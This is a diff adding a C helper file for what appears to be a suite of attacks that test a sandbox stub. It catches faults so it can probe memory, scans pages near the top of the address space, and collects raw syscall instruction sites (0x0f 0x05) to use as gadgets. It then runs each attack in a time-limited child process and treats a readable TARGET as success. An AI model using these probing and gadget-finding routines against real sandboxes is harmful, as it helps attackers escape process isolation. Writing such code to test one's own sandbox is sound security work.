@@ -1,0 +1,91 @@
+/* Finding the stub's pages, and seeing whether a page is there. */
+#include "attacks.h"
+
+/* The end of what the host gives a process, and how far below it is searched. */
+#define TOP 0x7ffffffff000UL
+#define SEARCHED (2048 * PAGE)
+#define SECONDS_MAX 3
+
+unsigned long pages[PAGES_MAX], sites[SITES_MAX];
+int page_count, site_count;
+char found[160];
+
+/* Where a probe goes on after a fault; a fault elsewhere ends the attack. */
+static __thread sigjmp_buf back;
+static __thread volatile int probing;
+
+static void on_fault(int signal)
+{
+	(void)signal;
+	if (probing)
+		siglongjmp(back, 1);
+	_exit(is_readable(TARGET));
+}
+
+void catch_faults(void)
+{
+	struct sigaction action = { .sa_handler = on_fault, .sa_flags = SA_NODEFER | SA_ONSTACK };
+	stack_t other = { .ss_sp = malloc(64 << 10), .ss_size = 64 << 10 };
+
+	sigaltstack(&other, NULL);
+	for (int s = 1; s < 32; s++)
+		if (s != SIGKILL && s != SIGSTOP && s != SIGCHLD && s != SIGALRM)
+			sigaction(s, &action, NULL);
+}
+
+int is_readable(unsigned long address)
+{
+	int readable = 0;
+
+	probing = 1;
+	if (!sigsetjmp(back, 1)) {
+		(void)*(volatile char *)address;
+		readable = 1;
+	}
+	probing = 0;
+	return readable;
+}
+
+int is_writable(unsigned long address)
+{
+	volatile char *at = (volatile char *)address;
+	int writable = 0;
+
+	probing = 1;
+	if (!sigsetjmp(back, 1)) {
+		*at = *at;
+		writable = 1;
+	}
+	probing = 0;
+	return writable;
+}
+
+void explore(void)
+{
+	catch_faults();
+	for (unsigned long at = TOP - PAGE; at >= TOP - SEARCHED; at -= PAGE)
+		if (page_count < PAGES_MAX && is_readable(at))
+			pages[page_count++] = at;
+	for (int p = 0; p < page_count; p++)
+		for (unsigned long i = 0; i < PAGE - 1; i++) {
+			const unsigned char *at = (void *)(pages[p] + i);
+
+			if (at[0] == 0x0f && at[1] == 0x05 && site_count < SITES_MAX)
+				sites[site_count++] = pages[p] + i;
+		}
+}
+
+int in_child(int (*attack)(void *), void *argument)
+{
+	int status;
+	pid_t child = fork();
+
+	if (child == 0) {
+		for (int s = 1; s < 32; s++)
+			signal(s, SIG_DFL);
+		alarm(SECONDS_MAX);
+		_exit(attack(argument));
+	}
+	waitpid(child, &status, 0);
+	return WIFEXITED(status) && WEXITSTATUS(status) == 1;
+}
